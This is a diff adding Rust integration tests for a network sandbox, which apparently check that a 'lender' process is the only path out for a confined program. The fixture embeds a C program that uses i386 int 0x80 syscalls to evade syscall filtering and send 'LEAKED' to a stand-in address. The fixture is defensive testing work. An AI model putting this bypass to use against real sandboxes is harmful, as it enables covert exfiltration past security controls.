@@ -1,0 +1,233 @@
+//! No packet of a program's leaves this machine but what the lender sends for it: all devices are watched, and every call of what
+//! runs outside for it is traced.
+
+use std::{
+    collections::{BTreeMap, BTreeSet},
+    fs,
+    io::Write,
+    net::{TcpListener, TcpStream},
+    os::{fd::AsRawFd, unix::fs::PermissionsExt},
+    path::Path,
+    process::{Command, Stdio},
+};
+
+use rustix::process::Signal;
+
+use crate::{
+    machine::Within,
+    outside::{LENDER_PORT, Outside, Seen},
+    support::{Daemon, own_uid, run},
+};
+
+/// As little as `run` starts with.
+const HOSTILE: &str = "[[allow]]\nwho = \"alice\"\nconnect = \"10.77.0.1:9\"\nresolve = \"nothing.example\"\n";
+
+/// Socket, connect and sendto by i386 calls, in memory that they can name.
+const INT_80: &str = r#"
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <sys/mman.h>
+#include <fcntl.h>
+#include <string.h>
+static long call(long number, long a, long b, long c, long d, long e) {
+    long result;
+    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e) : "memory", "r8", "r9", "r10", "r11");
+    return result;
+}
+int main(void) {
+    struct sockaddr_in *to = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+    *to = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(80), .sin_addr.s_addr = inet_addr("192.0.2.7")};
+    char *text = strcpy((char *)to + 64, "LEAKED");
+    long stream = call(359, AF_INET, 1, 0, 0, 0), datagram = call(359, AF_INET, 2, 0, 0, 0);
+    fcntl(stream, F_SETFL, O_NONBLOCK);
+    call(362, stream, (long)to, sizeof *to, 0, 0);
+    call(369, datagram, (long)text, 6, 0, (long)to);
+    call(362, datagram, (long)to, sizeof *to, 0, 0);
+    call(4, datagram, (long)text, 6, 0, 0);
+    return 0;
+}
+"#;
+
+/// The program that tries, with what it needs, in a folder that every user reads.
+struct Leaker {
+    _folder: tempfile::TempDir,
+    arguments: Vec<String>,
+    _inherited: TcpStream,
+    _other_end: TcpListener,
+}
+
+impl Leaker {
+    fn new() -> Self {
+        let folder = tempfile::tempdir().unwrap();
+        fs::set_permissions(folder.path(), fs::Permissions::from_mode(0o755)).unwrap();
+        let path = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
+        fs::copy(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/within/leak.py"), path("leak.py")).unwrap();
+        let second_table = if cfg!(target_arch = "x86_64") {
+            fs::write(path("way.c"), INT_80).unwrap();
+            run(Command::new("cc").args(["-o", &path("way"), &path("way.c")]));
+            path("way")
+        } else {
+            "none".to_owned()
+        };
+        let other_end = TcpListener::bind("127.0.0.1:0").unwrap();
+        let inherited = TcpStream::connect(other_end.local_addr().unwrap()).unwrap();
+        rustix::io::fcntl_setfd(&inherited, rustix::io::FdFlags::empty()).unwrap();
+        let number = inherited.as_raw_fd().to_string();
+        let arguments = vec!["/usr/bin/python3".to_owned(), path("leak.py"), number, second_table];
+        Self { _folder: folder, arguments, _inherited: inherited, _other_end: other_end }
+    }
+
+    /// With somebody outside who belongs to the same user.
+    fn command(&self, within: &Within) -> (Daemon, Vec<String>) {
+        let outsider = Daemon::spawn(within.beside("sleep").arg("1000"));
+        let mut words = self.arguments.clone();
+        words.push(outsider.child.id().to_string());
+        (outsider, words)
+    }
+}
+
+/// Lets it try once.
+fn tries(program: &mut Daemon, round: &str) {
+    program.stdin.as_mut().unwrap().write_all(format!("{round}\n").as_bytes()).unwrap();
+    loop {
+        let line = program.wait_for_line("");
+        assert!(!line.contains("is open"), "{line}");
+        if line == format!("tried {round}") {
+            return;
+        }
+    }
+}
+
+fn nothing_but_the_lender(seen: &Seen, who: &str) {
+    assert!(seen.others.is_empty(), "as {who}: {:#?}", seen.others);
+}
+
+/// Without it the others would prove nothing.
+#[test]
+fn what_the_program_tries_would_be_seen() {
+    let mut outside = Outside::start();
+    let machine = outside.lender(HOSTILE);
+    let leaker = Leaker::new();
+    outside.seen();
+    for within in outside.borrowers(&machine) {
+        outside.seen();
+        let (_outsider, words) = leaker.command(&within);
+        let mut program = Daemon::spawn(within.beside(&words[0]).args(&words[1..]).stdin(Stdio::piped()));
+        program.stdin.as_mut().unwrap().write_all(b"unprotected\n").unwrap();
+        program.wait_for_line("tried unprotected");
+        let seen = outside.seen();
+        let has = |text: &str| seen.others.iter().any(|line| line.contains(text));
+        for text in ["IPv4 6 ['192.0.2.1', '198.51.100.9']", "IPv4 17 ", "IPv6 6 ", "IPv6 17 ", "224.0.0.251", "LEAKED"]
+        {
+            assert!(has(text), "{text} as {}: {:#?}", within.uid, seen.others);
+        }
+    }
+}
+
+#[test]
+fn no_packet_of_a_program_leaves_with_a_lender_that_refuses_all_or_is_stopped_or_is_gone() {
+    let mut outside = Outside::start();
+    let leaker = Leaker::new();
+    for by_tun in [false, true] {
+        let mut machine = outside.lender(HOSTILE);
+        let mut programs = Vec::new();
+        for within in outside.borrowers(&machine) {
+            let within = if by_tun { within.over_tun() } else { within };
+            outside.seen();
+            let (outsider, words) = leaker.command(&within);
+            let program = Daemon::spawn(within.run(&[]).args(words).stdin(Stdio::piped()));
+            programs.push((within, program, outsider));
+        }
+        for (within, program, _) in &mut programs {
+            tries(program, "refused");
+            let seen = outside.seen();
+            nothing_but_the_lender(&seen, &within.who());
+        }
+        machine.lab.daemon.signal(Signal::STOP);
+        for (within, program, _) in &mut programs {
+            tries(program, "stopped");
+            nothing_but_the_lender(&outside.seen(), &within.who());
+        }
+        machine.lab.daemon.signal(Signal::CONT);
+        machine.lab.daemon.kill();
+        for (within, program, _) in &mut programs {
+            tries(program, "gone");
+            nothing_but_the_lender(&outside.seen(), &within.who());
+            drop(program.stdin.take());
+            program.wait();
+        }
+        nothing_but_the_lender(&outside.seen(), "nobody");
+    }
+}
+
+/// What the process that runs outside has called. `strace -ff` writes a file for each thread: one that nobody started is the
+/// first of that process, which starts its other threads by clone3, and the half that runs inside by clone.
+fn traces_outside(folder: &Path) -> Vec<String> {
+    let read = |file: std::io::Result<fs::DirEntry>| {
+        let path = file.unwrap().path();
+        let pid = path.extension().unwrap().to_str().unwrap().to_owned();
+        (pid, fs::read_to_string(path).unwrap().lines().map(str::to_owned).collect::<Vec<_>>())
+    };
+    let traces: BTreeMap<_, _> = fs::read_dir(folder).unwrap().map(read).collect();
+    let started_by = |lines: &[String], call: &str| {
+        let calls = lines.iter().filter(|line| line.starts_with(call));
+        calls.filter_map(|line| Some(line.rsplit_once("= ")?.1.to_owned())).collect::<Vec<_>>()
+    };
+    let all = |call| traces.values().flat_map(move |lines| started_by(lines, call));
+    let started: BTreeSet<_> = ["clone", "fork", "vfork"].into_iter().flat_map(all).collect();
+    let mut rest: Vec<_> = traces.keys().filter(|pid| !started.contains(*pid)).cloned().collect();
+    let mut calls = Vec::new();
+    let mut threads = 0;
+    while let Some(lines) = rest.pop().and_then(|pid| traces.get(&pid)) {
+        rest.extend(started_by(lines, "clone3("));
+        // The first has become capuchin by then.
+        let first = lines.iter().rposition(|line| line.starts_with("execve(")).map_or(0, |exec| exec + 1);
+        calls.extend_from_slice(&lines[first..]);
+        threads += 1;
+    }
+    assert!(threads >= 3, "its runtime has two threads, of {:?}", traces.keys());
+    calls
+}
+
+/// What connects outside for the program is one socket, to the lender.
+fn connects_to_the_lender_alone(within: &Within, leaker: &Leaker, outside: &mut Outside) {
+    let traces = tempfile::tempdir().unwrap();
+    fs::set_permissions(traces.path(), fs::Permissions::from_mode(0o777)).unwrap();
+    outside.seen();
+    let (_outsider, words) = leaker.command(within);
+    let mut command = outside.traced(within, &traces.path().join("trace"));
+    command.args(["run", "lab", "--"]).args(words);
+    let mut program = Daemon::spawn(command.stdin(Stdio::piped()));
+    tries(&mut program, "traced");
+    drop(program.stdin.take());
+    assert!(program.wait().success());
+    let seen = outside.seen();
+    nothing_but_the_lender(&seen, &within.who());
+
+    let calls = traces_outside(traces.path());
+    let connects: Vec<_> = calls.iter().filter(|call| call.starts_with("connect(")).collect();
+    // Of a process that lets nobody but root look into it, a tracer without privileges sees the length of an address alone.
+    let to_network = |call: &&String| call.contains("AF_INET") || call.contains(", 16)");
+    let (lender, others): (Vec<_>, Vec<_>) = connects.into_iter().partition(to_network);
+    assert_eq!((lender.len(), seen.to_lender), (1, 1), "as {}: {lender:#?}", within.who());
+    if own_uid() == 0 {
+        let expected = format!("sin_port=htons({LENDER_PORT}), sin_addr=inet_addr(\"127.0.0.1\")");
+        assert!(lender[0].contains(&expected), "as {}: {lender:#?}", within.who());
+        let own = within.home.folder.path().to_str().unwrap();
+        let is_own = |call: &&String| call.contains("AF_NETLINK") || (call.contains("AF_UNIX") && call.contains(own));
+        assert!(others.iter().all(is_own), "as {}: {others:#?}", within.who());
+    }
+    // Nor is there a socket outside that could send without being connected.
+    let sockets = calls.iter().filter(|call| call.starts_with("socket(AF_INET")).count();
+    assert_eq!(sockets, 1, "as {}: {calls:#?}", within.who());
+}
+
+#[test]
+fn who_runs_outside_for_a_program_connects_to_the_lender_and_to_nobody_else() {
+    let mut outside = Outside::start();
+    let machine = outside.lender(HOSTILE);
+    let leaker = Leaker::new();
+    for within in outside.borrowers(&machine) {
+        connects_to_the_lender_alone(&within, &leaker, &mut outside);
+    }
+}
